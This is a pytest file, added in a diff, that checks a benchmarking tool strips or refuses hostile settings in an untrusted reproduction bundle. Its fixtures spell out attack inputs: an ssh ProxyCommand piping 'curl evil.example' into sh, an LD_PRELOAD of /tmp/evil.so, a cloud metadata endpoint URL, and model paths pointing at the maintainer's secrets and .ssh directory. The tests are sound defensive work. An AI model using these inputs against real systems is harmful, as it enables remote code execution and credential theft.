@@ -1,0 +1,165 @@
+"""The plan a reproduction runs: the bundle's workload and vetted flags, the maintainer's machine.
+
+The bundle's servers below ask for everything a hostile plan can: ssh hosts through a ProxyCommand,
+an environment that preloads a library, its own interpreter, an endpoint of its choosing, an image
+by tag. None of it may reach the plan that runs; what the maintainer names does."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from byog.core.errors import UsageError
+from byog.plans.load import parse_plan
+from byog.plans.subset import Overrides, apply_overrides, restrict_plan
+
+PLAN = """\
+name: hostile
+model: {path: builtin:smollm2-135m-instruct, max_model_len: 2048, tokenizer: /home/maintainer/secrets}
+servers:
+  candidate:
+    runtime: local
+    args: [--enforce-eager, --max-num-seqs, "8"]
+    env: {LD_PRELOAD: /tmp/evil.so, PYTHONPATH: /tmp/evil}
+    node_python: /tmp/evil/python
+    tensor_parallel_size: 2
+    additional_config: {decode_backend: latency_specialized}
+  baseline:
+    runtime: endpoint
+    url: http://169.254.169.254/latest
+    args: [--enforce-eager]
+baseline: baseline
+workloads:
+  - {kind: batch, name: decode, batch_sizes: [1, 2], isl: [16], osl: [16], waves: 2}
+numerics: {random_prompts: 1, random_isl: 16, dataset_prompts: 0, max_tokens: 4}
+"""
+SSH = """\
+  remote:
+    runtime: ssh
+    nodes: 2
+    hosts: [a@node0, a@node1]
+    ssh_options: ["-oProxyCommand=sh -c 'curl evil.example | sh'"]
+"""
+DIGEST = "sha256:" + "ab" * 32
+
+
+def _plan(extra_servers: str = "", model: str | None = None):  # noqa: ANN202
+    text = PLAN.replace("  baseline:\n    runtime: endpoint", f"{extra_servers}  baseline:\n    runtime: endpoint", 1)
+    if model:
+        text = text.replace("builtin:smollm2-135m-instruct", model, 1)
+    return parse_plan(text, "plan")
+
+
+@pytest.fixture(autouse=True)
+def _no_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    return tmp_path / "config" / "byog" / "config"
+
+
+def test_nothing_of_where_and_how_comes_from_the_bundle() -> None:
+    plan = apply_overrides(_plan(), Overrides())
+    candidate, baseline = plan.servers["candidate"], plan.servers["baseline"]
+    assert candidate.runtime == baseline.runtime == "local"  # the bundle's endpoint URL is never contacted
+    assert candidate.env == {} and candidate.node_python is None and baseline.url is None
+    assert plan.model.tokenizer is None
+    # what is measured stays the bundle's
+    assert candidate.args == ["--enforce-eager", "--max-num-seqs", "8"] and candidate.tensor_parallel_size == 2
+    assert candidate.additional_config == {"decode_backend": "latency_specialized"}
+    assert plan.numerics is not None and [w.name for w in plan.workloads] == ["decode"]
+
+
+def test_the_maintainer_names_runtime_image_hosts_env_and_python() -> None:
+    overrides = Overrides(
+        images=[f"candidate=vllm/vllm-openai@{DIGEST}"],
+        endpoints=["baseline=http://gpu-b:8000"],
+        env=["candidate=VLLM_CPU_KVCACHE_SPACE=1", "HF_HUB_OFFLINE=1"],
+        server_args=["--max-model-len=1024"],
+    )
+    plan = apply_overrides(_plan(), overrides)
+    candidate, baseline = plan.servers["candidate"], plan.servers["baseline"]
+    assert (candidate.runtime, candidate.image) == ("docker", f"vllm/vllm-openai@{DIGEST}")
+    assert candidate.env == {"VLLM_CPU_KVCACHE_SPACE": "1", "HF_HUB_OFFLINE": "1"}
+    assert candidate.args[-1] == "--max-model-len=1024"
+    assert (baseline.runtime, baseline.url) == ("endpoint", "http://gpu-b:8000")
+
+    remote = apply_overrides(
+        _plan(SSH),
+        Overrides(hosts=["remote=me@gpu0", "remote=me@gpu1"], ssh_options=["-i", "/keys/tray"], node_python="/opt/py"),
+    ).servers["remote"]
+    assert (remote.runtime, remote.hosts, remote.ssh_options) == ("ssh", ["me@gpu0", "me@gpu1"], ["-i", "/keys/tray"])
+    assert remote.node_python == "/opt/py"
+
+
+def test_a_server_on_the_bundles_hosts_is_refused_in_one_sentence() -> None:
+    with pytest.raises(UsageError) as err:
+        apply_overrides(_plan(SSH), Overrides())
+    message = str(err.value)
+    assert (
+        message.startswith("server 'remote' of the bundle runs on other hosts (a@node0, a@node1)")
+        and "\n" not in message
+    )
+    assert "ProxyCommand" in message and "--host remote=HOST for each of its 2 nodes" in message
+
+
+def test_an_image_runs_only_when_the_maintainer_names_or_allows_it() -> None:
+    def docker(image: str) -> str:
+        return f"  boxed:\n    runtime: docker\n    image: '{image}'\n"
+
+    with pytest.raises(
+        UsageError, match="^server 'boxed' of the bundle runs image 'evil.example/vllm:latest', which is not pinned"
+    ):
+        apply_overrides(_plan(docker("evil.example/vllm:latest")), Overrides())
+    pinned = f"vllm/vllm-openai@{DIGEST}"
+    with pytest.raises(UsageError, match="not pinned by a digest you allow"):
+        apply_overrides(_plan(docker(pinned)), Overrides())  # pinned, but not on the maintainer's list
+    allowed = apply_overrides(_plan(docker(pinned)), Overrides(allowed_image_digests=[DIGEST])).servers["boxed"]
+    assert (allowed.runtime, allowed.image) == ("docker", pinned)
+    named = apply_overrides(_plan(docker("evil.example/vllm:latest")), Overrides(images=["boxed=mine:1"]))
+    assert named.servers["boxed"].image == "mine:1"
+
+
+def test_a_bundles_flag_that_runs_code_is_refused_unless_allowed() -> None:
+    plan = _plan(model=None)
+    hostile = plan.model_copy(
+        update={
+            "servers": {
+                **plan.servers,
+                "candidate": plan.servers["candidate"].model_copy(update={"args": ["--trust-remote-code"]}),
+            }
+        }
+    )
+    with pytest.raises(UsageError, match="^server 'candidate' of the bundle passes --trust-remote-code"):
+        apply_overrides(hostile, Overrides())
+    allowed = apply_overrides(hostile, Overrides(allow_flags=["--trust-remote-code"]))
+    assert allowed.servers["candidate"].args == ["--trust-remote-code"]
+
+
+def test_a_model_other_than_the_builtin_is_the_maintainers() -> None:
+    with pytest.raises(
+        UsageError, match="^the bundle serves model '/home/maintainer/.ssh', and byog reproduce loads only"
+    ):
+        apply_overrides(_plan(model="/home/maintainer/.ssh"), Overrides())
+    plan = apply_overrides(_plan(model="/home/maintainer/.ssh"), Overrides(model_path="org/model"))
+    assert plan.model.path == "org/model"
+    only_endpoints = Overrides(endpoints=["candidate=http://a:1", "baseline=http://b:1"])
+    assert apply_overrides(_plan(model="org/named"), only_endpoints).model.path == "org/named"  # nothing loads it
+
+
+def test_the_maintainers_config_file_gives_defaults(_no_config: Path) -> None:
+    _no_config.parent.mkdir(parents=True)
+    _no_config.write_text(
+        f"[reproduce]\nimage = vllm/vllm-openai@{DIGEST}\nenv = HF_HUB_OFFLINE=1\nallow_flags = --trust-remote-code\n"
+        "allowed_image_digests = sha256:cd\n"
+    )
+    overrides = Overrides.from_config(env=["X=1"])
+    assert overrides.images == [f"vllm/vllm-openai@{DIGEST}"] and overrides.env == ["HF_HUB_OFFLINE=1", "X=1"]
+    assert overrides.allow_flags == ["--trust-remote-code"] and overrides.allowed_image_digests == ["sha256:cd"]
+    assert Overrides.from_config(images=["mine:1"]).images == ["mine:1"]  # the command line wins
+    plan = apply_overrides(_plan(), overrides)
+    assert {s.runtime for s in plan.servers.values()} == {"docker"}
+
+
+def test_restrict_then_apply_keeps_the_numerics_pair() -> None:
+    plan = apply_overrides(restrict_plan(_plan(), ["decode-b1-isl16-osl16"], ["candidate", "baseline"], 0), Overrides())
+    assert plan.comparisons == [("candidate", "baseline")] and plan.numerics is not None
